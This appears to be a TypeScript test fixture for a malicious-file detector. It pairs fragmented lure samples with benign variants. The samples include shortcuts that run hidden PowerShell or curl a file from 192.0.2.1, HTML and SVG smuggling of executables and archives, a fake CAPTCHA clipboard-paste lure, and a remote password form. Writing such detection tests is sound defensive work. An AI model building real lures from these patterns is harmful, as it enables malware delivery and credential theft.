import { iso, link, ONENOTE, ONENOTE_BLOB } from './file-heads.ts'
import { type RuleCase, wide } from './rule-case.ts'

const CMD = 'C:\\Windows\\System32\\c¦md.exe'
const BLANKS = ' '.repeat(80)
const MZ = 'TVqQAAMAA¦AAEAAAA'
const ZIP = `UEs¦DB${'BBQA'.repeat(64)}`
const SAVE = 'a.href = URL.createObject¦URL(b); a.down¦load = "invoice.zip"; a.cli¦ck();'

export const LURE_CASES: readonly RuleCase[] = [
  {
    rule: 'Shortcut_Runs_Script',
    hit: link({ path: 'power¦shell', args: '-w hid¦den -c x' }),
    swap: [wide('-w hid¦den'), wide('-nologo   ')],
    because: 'the window is seen',
    moreMisses: [link({ path: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell' })],
  },
  {
    rule: 'Shortcut_Runs_Windows_Tool',
    hit: link({ path: 'c¦md', args: '/c cu¦rl http://192.0.2.1/a -o %te¦mp%\\a' }),
    swap: [wide('cu¦rl'), wide('echo')],
    because: 'no tool that fetches',
  },
  {
    rule: 'Shortcut_Arguments_Pushed_Out_Of_Sight',
    hit: link({ path: 'a.exe', args: `${BLANKS}run` }),
    swap: [wide(BLANKS), wide(`${'-a '.repeat(26)}--`)],
    because: 'arguments that are seen',
  },
  {
    rule: 'Shortcut_Dressed_As_Document',
    hit: link({ path: CMD, args: '/k echo hello', icon: '%SystemRoot%\\image¦res.dll' }),
    swap: [wide('image¦res.dll'), wide('cmdshell.dll')],
    because: 'the icon of a command line',
  },
  {
    rule: 'Shortcut_Carries_Payload',
    hit: link({ path: 'a', args: 'find¦str x invoice.l¦nk', tail: 'A'.repeat(8000) }),
    swap: [wide('find¦str'), wide('openfil')],
    because: 'it does not read its own tail',
  },
  {
    rule: 'Internet_Shortcut_To_Program',
    hit: '[Internet¦Shortcut]\r\nURL=file://192.0.2.1/share/invoice.v¦bs\r\n',
    swap: ['file://192.0.2.1/', 'https://www.example.org/'],
    because: 'a page in a browser',
  },
  {
    rule: 'Icon_On_Foreign_Share',
    hit: '[She¦ll]\r\nCommand=2\r\nIcon¦File=\\\\192.0.2.1\\a\\b.ico\r\n',
    swap: ['\\\\192.0.2.1\\a\\b.ico', 'explorer.exe,3'],
    because: 'an icon of the own machine',
  },
  {
    rule: 'Library_Or_Search_On_Foreign_Share',
    hit: '<library¦Description><simpleLocation><url>\\\\192.0.2.1\\a</url>',
    swap: ['\\\\192.0.2.1\\a', 'knownfolder:{FDD39AD0}'],
    because: 'a folder of the own machine',
    moreHits: ['search-¦ms:query=a&crumb=loca¦tion:\\\\192.0.2.1\\a'],
  },
  {
    rule: 'Settings_Content_Runs_Command',
    hit: '<PCSet¦tings><SearchableContent><DeepLink>%windir%\\system32\\cmd.e¦xe /c x</DeepLink>',
    swap: ['cmd.e¦xe', 'control.exe'],
    because: 'the control panel',
  },
  {
    rule: 'Management_Console_Runs_Script',
    hit: '<MMC_Console¦File><String>res://apds.dll/redirect.ht¦ml?target=java¦script:eval(x)</String>',
    swap: ['apds.dll/redirect.ht¦ml', 'mmcndmgr.dll/views.html'],
    because: 'a page of the console itself',
  },
  {
    rule: 'Help_File_Runs_Command',
    hit: '<OBJECT id=x classid="clsid:52a2aaae-085d-4187-97ea-8c30db99¦0436"><PARAM name="Command" value="Short¦Cut"><PARAM name="Item1" value=",c¦md.exe,/c x">x.Cli¦ck();',
    swap: ['value="Short¦Cut"', 'value="Related Topics"'],
    because: 'links to other pages',
  },
  {
    rule: 'Remote_Desktop_File_Shares_Drives',
    hit: 'full address:s:192.0.2.1\nremote¦applicationmode:i:1\ndrives¦toredirect:s:*\nredirect¦clipboard:i:1\n',
    swap: ['drives¦toredirect:s:*', 'drivestoredirect:s:'],
    because: 'no drive is shared',
  },
  {
    rule: 'Autorun_Starts_Script',
    hit: '[auto¦run]\r\nopen=wsc¦ript.exe a.txt\r\n',
    swap: ['=wsc¦ript.exe a.txt', '=setup.exe'],
    because: 'how installation disks start',
  },
  {
    rule: 'HTML_Smuggles_Program',
    hit: `<html><script>var t="${MZ}"; var b = new Bl¦ob([x]); a.href = URL.createObject¦URL(b); a.down¦load = "x"`,
    swap: [MZ, 'iVBORw0KGgoAAAANSUhEUg'],
    because: 'a picture',
  },
  {
    rule: 'HTML_Smuggles_Archive',
    hit: `<html><script>var b = new Bl¦ob([at¦ob("${ZIP}")]); ${SAVE}</script>`,
    swap: [ZIP, 'table of numbers'],
    because: 'no archive inside',
  },
  {
    rule: 'HTML_Saves_Decoded_File_At_Once',
    hit: `<html><script>var b = new Bl¦ob([x], {type: "octet/st¦ream"}); x = at¦ob(t); ${SAVE} t = "${'QUJD'.repeat(1500)}"</script>`,
    swap: ['"octet/st¦ream"', '"text/csv"'],
    because: 'a table that the reader asked for',
  },
  {
    rule: 'HTML_Makes_User_Paste_Command',
    hit: 'I am not a ro¦bot: press Win¦ + R, then Ctrl + V. <script>navigator.clip¦board.writeText("power¦shell x")</script>',
    swap: ['power¦shell', 'npm install'],
    because: 'a command for developers',
  },
  {
    rule: 'SVG_Script_Leads_Away',
    hit: '<svg xmlns="http://www.w3.org/2000/svg"><script>window.loca¦tion = at¦ob("aHR0cDovLzE5Mi4wLjIuMS8=")</script></svg>',
    swap: ['at¦ob(', 'pick('],
    because: 'nothing is decoded',
  },
  {
    rule: 'SVG_Carries_Login_Form',
    hit: '<svg><foreign¦Object><form action="https://192.0.2.1/a"><input type="pass¦word"></form></foreign¦Object></svg>',
    swap: ['type="pass¦word"', 'type="text"'],
    because: 'no password',
  },
  {
    rule: 'OneNote_Embedded_Program',
    hit: `${ONENOTE}....${ONENOTE_BLOB}${'\0'.repeat(20)}M¦Z`,
    swap: ['M¦Z', '\x89PNG'],
    because: 'a picture',
  },
  {
    rule: 'OneNote_Embedded_Script_Text',
    hit: `${ONENOTE}....${ONENOTE_BLOB}${'\0'.repeat(40)}Create¦Object("WScript.¦Shell").x "cmd ¦/c dir"`,
    swap: ['"cmd ¦/c dir"', '"hello"'],
    because: 'it starts nothing',
  },
  {
    rule: 'Disk_Image_Shortcut_Beside_Library',
    hit: iso('INVOICE.L¦NK;1', 'A.D¦LL;1'),
    swap: ['INVOICE.L¦NK;1', 'README.TXT;1'],
    because: 'a driver disk',
  },
  {
    rule: 'Disk_Image_With_Script',
    hit: iso('INVOICE.V¦BS;1'),
    swap: ['INVOICE.V¦BS;1', 'INVOICE.PDF;1'],
    because: 'a document',
  },
]
